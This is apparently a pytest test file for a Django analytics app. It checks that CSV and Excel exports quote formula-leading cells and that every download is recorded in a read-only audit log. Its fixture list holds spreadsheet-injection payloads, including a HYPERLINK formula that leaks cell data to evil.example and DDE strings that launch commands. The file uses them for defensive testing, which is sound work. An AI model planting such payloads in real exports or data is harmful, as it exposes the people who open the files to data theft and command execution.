"""Exports: no cell of a downloaded CSV or Excel file runs as a formula, and every download is
recorded (who, which export, the filter, how many rows)."""

import ast
import csv
import datetime
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from analytics import views as analytics_views
from analytics.exports import kpi_tables
from analytics.models import SegmentDefinition
from core.exports import csv_bytes, safe_cell, xlsx_bytes
from core.models import ExportRecord
from imports.models import ImportBatch, ImportRowError
from tests.analytics.helpers import pay, run
from tests.factories.portfolio import DebtFactory, PortfolioFactory

pytestmark = pytest.mark.django_db

D = datetime.date
PERIOD = {"date_from": "2026-11-01", "date_to": "2026-11-30"}

# What a hostile user can type into a name, a segment or an uploaded file (OWASP examples).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_safe_text(value: str) -> bool:
    return not value.startswith(FORMULA_START) or value.lstrip("+-").replace(".", "").isdigit()


# --- the neutraliser ---------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [Decimal("-5.00"), -5, -5.5, 0, D(2026, 11, 1), None, "COP", "Cartera 1", "'=already quoted"],
)
def test_numbers_dates_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", ["-100.00", "-5", "+57", "-3,5"])
def test_text_that_is_only_a_number_is_kept(text):
    # A raw "-100.00" from an uploaded file is that number in a spreadsheet, never a formula.
    assert safe_cell(text) == text


def test_csv_cells_are_neutralised_and_amounts_stay_numbers():
    rows = [[text, Decimal("-5.00"), -3] for text in HOSTILE]

    data = csv_bytes(["name", "amount", "count"], rows).decode("utf-8-sig")

    read = list(csv.reader(io.StringIO(data, newline="")))
    assert read[1:] == [["'" + text, "-5.00", "-3"] for text in HOSTILE]


def test_xlsx_has_no_formula_cells_and_numbers_stay_numbers():
    rows = [[text, Decimal("-5.00"), -3] for text in HOSTILE]
    rows.append(["control \x01 character", Decimal("1.50"), 0])  # openpyxl refuses \x01

    data = xlsx_bytes("t=1", ["name", "amount", "count"], rows)

    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    # (XML reads a carriage return back as a line feed: still a quoted text cell)
    assert values[:-1] == [["'" + text.replace("\r", "\n"), -5.0, -3] for text in HOSTILE]
    assert values[-1] == ["control \ufffd character", 1.5, 0]


# --- every export endpoint, with hostile values in every field --------------------------------


class _HostileRow(dict):
    """A KPI row whose every field is `value` (nested tables hold one such row)."""

    def __init__(self, value):
        super().__init__()
        self.value = value

    def __getitem__(self, key):
        if key in ("matrix", "cells", "points"):
            return [_HostileRow(self.value)]
        return self.value


class _AnyKey(dict):
    """The dashboard's data: every list of rows holds one row per value given."""

    def __init__(self, values):
        super().__init__()
        self.values_ = values

    def __getitem__(self, key):
        return [_HostileRow(v) for v in self.values_]


def _read(response, fmt) -> list[list]:
    if fmt == "csv":
        text = response.content.decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text, newline="")))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return [list(row) for row in sheet.values]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_dashboard_export_neutralises_every_text_field(client, manager, monkeypatch, fmt):
    # Given KPI figures whose every text field is hostile and every number negative
    values = [*HOSTILE, Decimal("-5.00")]
    data = _AnyKey(values)
    tables = sorted(kpi_tables(data))
    monkeypatch.setattr(analytics_views, "kpi_dashboard_cached", lambda **kwargs: data)
    client.force_login(manager)
    assert len(tables) >= 16  # the discovery found the dashboard's tables

    for table in tables:
        # When each table is exported
        response = client.get(reverse("analytics:dashboard-export", args=[table, fmt]), PERIOD)
        assert response.status_code == 200, table
        rows = _read(response, fmt)[1:]

        # Then every text cell is quoted and every amount is still a negative number
        expected_text = ["'" + text for text in HOSTILE]
        if fmt == "xlsx":
            expected_text = [text.replace("\r", "\n") for text in expected_text]
        for row, text in zip(rows, expected_text, strict=False):
            assert set(row) == {text}, (table, row)
        amount = "-5.00" if fmt == "csv" else -5.0
        assert set(rows[-1]) == {amount}, table
    assert ExportRecord.objects.count() == len(tables)


@pytest.fixture
def hostile_world(creditor, collector):
    """Real figures, with a hostile portfolio, segment and collector name."""
    SegmentDefinition.objects.update(name=HOSTILE[0])
    portfolio = PortfolioFactory(creditor=creditor, name=HOSTILE[1], assigned_on=D(2026, 10, 31))
    collector.first_name, collector.last_name = HOSTILE[4], ""
    collector.save(update_fields=["first_name", "last_name"])
    debt = DebtFactory(
        creditor=creditor,
        portfolio=portfolio,
        assigned_to=collector,
        principal=Decimal("1000000"),
        interest=0,
        fees=0,
        due_date=D(2026, 11, 10),
    )
    run(D(2026, 10, 31))
    pay(debt, "250000", D(2026, 11, 12), "P1")
    run(D(2026, 11, 12))
    run(D(2026, 11, 30))
    return debt


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_names_from_the_database_reach_exports_neutralised(client, manager, hostile_world, fmt):
    client.force_login(manager)
    seen = set()
    for table in ("segments", "cumulative-recovery", "collectors"):
        url = reverse("analytics:dashboard-export", args=[table, fmt])
        rows = _read(client.get(url, PERIOD), fmt)
        cells = [c for row in rows for c in row if isinstance(c, str)]
        assert all(_is_safe_text(c) for c in cells), (table, cells)
        seen |= {c for c in cells if c.startswith("'")}
    assert {"'" + HOSTILE[0], "'" + HOSTILE[1]} <= seen


def test_import_errors_csv_neutralises_raw_file_values(client, manager, creditor):
    # Given an import whose rejected rows hold hostile raw values
    batch = ImportBatch.objects.create(kind="portfolio", creditor=creditor, file_name="x.csv")
    for row, text in enumerate(HOSTILE, start=2):
        ImportRowError.objects.create(batch=batch, row=row, column=text, reason=text, value=text)
    ImportRowError.objects.create(batch=batch, row=99, column="principal", reason="r", value="-5")
    client.force_login(manager)

    # When the errors are downloaded
    response = client.get(reverse("imports:import-errors-csv", args=[batch.pk]))

    # Then every hostile cell is quoted; a raw number is kept as it is
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["row", "column", "reason", "value"]
    assert rows[1:-1] == [[str(n), *(["'" + t] * 3)] for n, t in enumerate(HOSTILE, start=2)]
    assert rows[-1] == ["99", "principal", "r", "-5"]
    record = ExportRecord.objects.get()
    assert (record.user, record.export, record.row_count) == (manager, "imports:errors", 8)
    assert record.filters == {"import": batch.pk}


# --- every download is recorded ----------------------------------------------------------------


def test_a_dashboard_export_records_who_what_filter_and_rows(client, manager, creditor):
    DebtFactory(creditor=creditor, due_date=D(2026, 11, 10))
    run(D(2026, 11, 30))
    client.force_login(manager)

    response = client.get(
        reverse("analytics:dashboard-export", args=["aging", "xlsx"]),
        {**PERIOD, "creditor": creditor.code, "currency": ""},
        REMOTE_ADDR="10.1.2.3",
    )

    assert response.status_code == 200
    rows = len(_read(response, "xlsx")) - 1
    record = ExportRecord.objects.get()
    assert record.user == manager
    assert record.export == "kpis:aging"
    assert record.file_name == "kpis-aging-2026-11-30.xlsx"
    assert record.filters == {**PERIOD, "creditor": creditor.code, "currency": ""}
    assert record.row_count == rows > 0
    assert record.ip_address == "10.1.2.3"


def test_a_refused_export_records_nothing(client, manager, collector):
    client.force_login(manager)
    client.get(reverse("analytics:dashboard-export", args=["aging", "csv"]), {"date_from": "x"})
    client.get(reverse("analytics:dashboard-export", args=["nope", "csv"]))
    client.force_login(collector)
    client.get(reverse("analytics:dashboard-export", args=["aging", "csv"]))
    assert not ExportRecord.objects.exists()


def test_export_records_are_read_only_in_the_admin(admin_client, admin_user):
    record = ExportRecord.objects.create(
        user=admin_user, export="kpis:aging", file_name="f.csv", row_count=3
    )
    listing = admin_client.get(reverse("admin:core_exportrecord_changelist"), {"export": "x"})
    assert listing.status_code == 200
    change = reverse("admin:core_exportrecord_change", args=[record.pk])
    assert admin_client.post(change, {"row_count": 0}).status_code == 403
    assert admin_client.get(reverse("admin:core_exportrecord_add")).status_code == 403
    delete = reverse("admin:core_exportrecord_delete", args=[record.pk])
    assert admin_client.post(delete, {"post": "yes"}).status_code == 403
    record.refresh_from_db()
    assert record.row_count == 3


# --- no export bypasses the neutraliser --------------------------------------------------------

ROOT = Path(settings.BASE_DIR)
PRODUCT_APPS = [
    "core",
    "portfolio",
    "messaging",
    "agreements",
    "collections_app",
    "analytics",
    "imports",
    "portal",
    "demo",
]
# Writers allowed outside core/exports.py, and why.
ALLOWED = {
    # COPY rows into a temporary table: the reader is PostgreSQL, not a person.
    ("core/bulk.py", "csv.writer"),
}
SPREADSHEET_WRITERS = {"csv.writer", "csv.DictWriter", "Workbook", "openpyxl"}
SPREADSHEET_TYPES = ("text/csv", "spreadsheetml")


def _writers(path: Path) -> set[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            name = f"{node.value.id}.{node.attr}"
            if name in SPREADSHEET_WRITERS:
                found.add(name)
        elif isinstance(node, ast.ImportFrom) and node.module and "openpyxl" in node.module:
            found.add("openpyxl")
        elif isinstance(node, ast.Constant) and isinstance(node.value, str):
            found |= {t for t in SPREADSHEET_TYPES if t in node.value}
    return found


def test_no_product_code_writes_a_spreadsheet_outside_core_exports():
    offenders = []
    for app in PRODUCT_APPS:
        for path in (ROOT / app).rglob("*.py"):
            relative = path.relative_to(ROOT).as_posix()
            if "/migrations/" in relative or relative == "core/exports.py":
                continue
            for writer in _writers(path):
                if (relative, writer) not in ALLOWED:
                    offenders.append(f"{relative}: {writer}")
    assert offenders == [], "export through core.exports (formula neutraliser + record)"


def test_the_bypass_check_sees_a_csv_writer(tmp_path):
    sample = tmp_path / "x.py"
    sample.write_text("import csv\nw = csv.writer(f)\nct = 'text/csv'\n")
    assert _writers(sample) == {"csv.writer", "text/csv"}
